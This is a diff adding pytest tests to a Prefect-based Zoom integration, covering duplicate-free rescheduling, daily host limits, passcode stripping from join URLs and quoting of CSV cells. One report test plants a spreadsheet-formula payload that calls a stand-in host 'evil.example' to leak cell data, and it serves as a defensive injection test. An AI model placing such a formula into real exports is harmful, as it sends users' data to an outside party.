@@ -19,6 +19,7 @@ from prefect.client.schemas.filters import (
     ArtifactFilterKey,
 )
 from prefect.states import State
+from prefect.variables import Variable
 
 from prefect_zoom.capabilities import FLOW_REQUIREMENTS, capabilities
 from prefect_zoom.catalog import ALL_SCOPES, OPERATIONS
@@ -94,6 +95,9 @@ def test_flow_requirements_name_catalog_operations() -> None:
     assert by_name["meetings_report"].can_run
     assert not by_name["users_report"].can_run
     assert by_name["schedule_meetings"].scopes_to_add == ("meeting:write", "meeting:write:meeting")
+    # finding what an earlier run scheduled takes the list of meetings
+    write_only = {c.name: c for c in capabilities(["meeting:write"]) if c.kind == "flow"}
+    assert write_only["schedule_meetings"].missing_operations == ("list_meetings",)
 
 
 # ---- check_connection --------------------------------------------------------------------------
@@ -209,11 +213,14 @@ def check_results(zoom_emulator: ZoomEmulator, results: list[RowResult], links: 
     assert weekly["recurrence"]["type"] == 2 and weekly["recurrence"]["weekly_days"] == "2,5"
     assert len(weekly["occurrences"]) == 4 == results[2].occurrences
     assert len(meetings) == 2
-    assert results[0].join_url == one_time["join_url"]
+    # the join URL without its pwd= passcode
+    assert "pwd=" in one_time["join_url"]
+    assert results[0].join_url == one_time["join_url"].split("?")[0]
     assert results[0].invite_links == links
     dumped = json.dumps([r.model_dump(mode="json") for r in results])
     assert "start_url" not in dumped and "abc123" not in dumped
     assert one_time["start_url"] not in dumped
+    assert one_time["encrypted_password"] not in dumped
 
 
 def test_schedule_meetings_from_a_list(zoom_emulator: ZoomEmulator, block_name: str) -> None:
@@ -275,7 +282,7 @@ def test_schedule_meetings_fails_when_every_row_fails(
 
 
 def test_schedule_meetings_keeps_to_the_daily_limit_per_host(
-    zoom_emulator: ZoomEmulator, block_name: str
+    zoom_emulator: ZoomEmulator, block_name: str, caplog: pytest.LogCaptureFixture
 ) -> None:
     rows = [{"topic": f"Meeting {n}", "start_time": START_TEXT} for n in range(1, 4)]
 
@@ -284,6 +291,15 @@ def test_schedule_meetings_keeps_to_the_daily_limit_per_host(
     assert [r.status for r in results] == ["created", "created", "skipped"]
     assert results[2].error and "daily_limit_per_host" in results[2].error
     assert len(zoom_emulator.state.meetings) == 2
+    # the log line says "skipped" once
+    assert "Row 3 ('Meeting 3'): skipped: daily limit of 2 meetings" in caplog.text
+    assert "skipped: skipped" not in caplog.text
+
+    # meetings already scheduled take no place in the allowance: the re-run sends row 3
+    again = schedule_meetings(block_name, rows, daily_limit_per_host=2)
+
+    assert [r.status for r in again] == ["already scheduled", "already scheduled", "created"]
+    assert len(zoom_emulator.state.meetings) == 3
 
 
 @configured(rate_limits="pro", seed_users=2)
@@ -311,6 +327,99 @@ def test_schedule_meetings_skips_a_host_after_zooms_daily_limit(
     assert [m["topic"] for m in zoom_emulator.state.meetings.values()] == ["Other host"]
     # one request hit the limit; the host's other rows were not sent
     assert zoom_emulator.state.counters["rate_limited Daily-limit"] <= 3
+
+
+def six_rows() -> list[dict[str, Any]]:
+    later = START + timedelta(days=1)
+    return [
+        {"topic": "Kick-off", "start_time": START_TEXT, "invitees": "Ada; Grace"},
+        {"topic": "Long agenda", "start_time": START_TEXT, "agenda": "Notes. " * 100},
+        {
+            "topic": "Weekly sync",
+            "start_time": START.replace(tzinfo=None).isoformat(),
+            "timezone": "Europe/Berlin",
+            "recurrence_type": "weekly",
+            "weekly_days": "monday;thursday",
+            "end_times": "4",
+        },
+        {"topic": "Weekly sync", "start_time": later.isoformat(), "password": "abc123"},
+        {"topic": "Monthly", "start_time": START_TEXT, "recurrence_type": "monthly",
+         "monthly_day": "3", "end_times": "2"},
+        {"topic": "Theirs", "start_time": START_TEXT, "host": "user1@example.com",
+         "invitees": "Linus"},
+    ]  # fmt: skip
+
+
+INVITE_ROUTE = "POST /v2/meetings/{meetingId}/invite_links 201"
+
+
+@configured(seed_users=2)
+def test_schedule_meetings_again_makes_no_duplicates(
+    emulator_config: EmulatorConfig, zoom_emulator: ZoomEmulator, block_name: str
+) -> None:
+    first = schedule_meetings(block_name, six_rows())
+    assert [r.status for r in first] == ["created"] * 6
+    assert zoom_emulator.state.counters[INVITE_ROUTE] == 2
+
+    state = schedule_meetings(block_name, six_rows(), return_state=True)
+
+    assert state.is_completed(), state
+    again: list[RowResult] = state.result()
+    assert [r.status for r in again] == ["already scheduled"] * 6
+    assert [r.meeting_id for r in again] == [r.meeting_id for r in first]
+    assert [r.join_url for r in again] == [r.join_url for r in first]
+    assert len(zoom_emulator.state.meetings) == 6
+    # the links of the first run are still valid: none made again
+    assert zoom_emulator.state.counters[INVITE_ROUTE] == 2
+    assert [r.invite_links for r in again] == [0] * 6
+    table = artifact_data(state, "zoom-scheduled-meetings")
+    assert [row["status"] for row in table] == ["already scheduled"] * 6
+
+    # the record of row 1's links is lost: its links are made again, row 6's are not
+    kick_off = again[0].meeting_id
+    Variable.unset(f"zoom-invite-links-{kick_off}")
+    third = schedule_meetings(block_name, six_rows())
+    assert [r.invite_links for r in third] == [2, 0, 0, 0, 0, 0]
+    assert zoom_emulator.state.counters[INVITE_ROUTE] == 3
+    assert len(zoom_emulator.state.meetings) == 6
+
+
+def test_schedule_meetings_without_the_list_scope_sends_no_create(
+    zoom_emulator: ZoomEmulator,
+) -> None:
+    name = save_block(zoom_emulator, ["meeting:write"])
+    state = schedule_meetings(
+        name, [{"topic": "Blind", "start_time": START_TEXT}], return_state=True
+    )
+
+    assert state.is_failed()
+    table = artifact_data(state, "zoom-scheduled-meetings")
+    assert "meeting:read" in table[0]["error"]  # the scope to add
+    assert zoom_emulator.state.meetings == {}
+
+
+def test_schedule_meetings_sends_a_repeated_row_once(
+    zoom_emulator: ZoomEmulator, block_name: str
+) -> None:
+    row = {"topic": "Twice", "start_time": START_TEXT}
+    results = schedule_meetings(block_name, [row, dict(row, duration="30")])
+
+    assert [r.status for r in results] == ["created", "skipped"]
+    assert results[1].error and "the same meeting as row 1" in results[1].error
+    assert len(zoom_emulator.state.meetings) == 1
+
+
+def test_schedule_meetings_can_show_passcodes_when_asked(
+    zoom_emulator: ZoomEmulator, block_name: str
+) -> None:
+    rows = [{"topic": "Open", "start_time": START_TEXT, "password": "abc123"}]
+    state = schedule_meetings(block_name, rows, include_passcodes=True, return_state=True)
+
+    result: RowResult = state.result()[0]
+    assert result.meeting_id is not None and result.join_url is not None
+    meeting = zoom_emulator.state.meetings[result.meeting_id]
+    assert result.join_url == meeting["join_url"] and "pwd=" in result.join_url
+    assert artifact_data(state, "zoom-scheduled-meetings")[0]["join_url"] == meeting["join_url"]
 
 
 # ---- reports -----------------------------------------------------------------------------------
@@ -366,6 +475,39 @@ def test_meetings_report_falls_back_to_me_without_list_users(
     path = meetings_report(name, output_csv=str(tmp_path / "m.csv"))
 
     assert [(r["user"], r["topic"]) for r in read_csv(path)] == [("me", "Mine")]
+
+
+def test_report_csv_holds_no_formulas_and_no_passcodes(
+    zoom_emulator: ZoomEmulator, block_name: str, tmp_path: Path
+) -> None:
+    owner = zoom_emulator.config.user_email
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    meeting_id = seed_meeting(zoom_emulator, owner, hostile, START)
+    seed_meeting(zoom_emulator, owner, "-2+3", START + timedelta(hours=1))
+    join_url = zoom_emulator.state.meetings[meeting_id]["join_url"]
+    assert "?pwd=" in join_url
+
+    path = meetings_report(block_name, user_ids=["me"], output_csv=str(tmp_path / "m.csv"))
+
+    rows = read_csv(path)
+    assert [r["topic"] for r in rows] == ["'" + hostile, "'-2+3"]
+    assert rows[0]["join_url"] == join_url.split("?")[0]
+    assert rows[0]["duration"] == "30"  # numbers stay numbers
+    assert "pwd=" not in Path(path).read_text(encoding="utf-8")
+
+    asked = meetings_report(
+        block_name, user_ids=["me"], output_csv=str(tmp_path / "p.csv"), include_passcodes=True
+    )
+    assert read_csv(asked)[0]["join_url"] == join_url
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
+    from prefect_zoom.flows._support import csv_cell
+
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Plain = fine") == "Plain = fine"
+    assert csv_cell(-5) == "-5" and csv_cell(None) == ""
 
 
 @configured(seed_users=3)
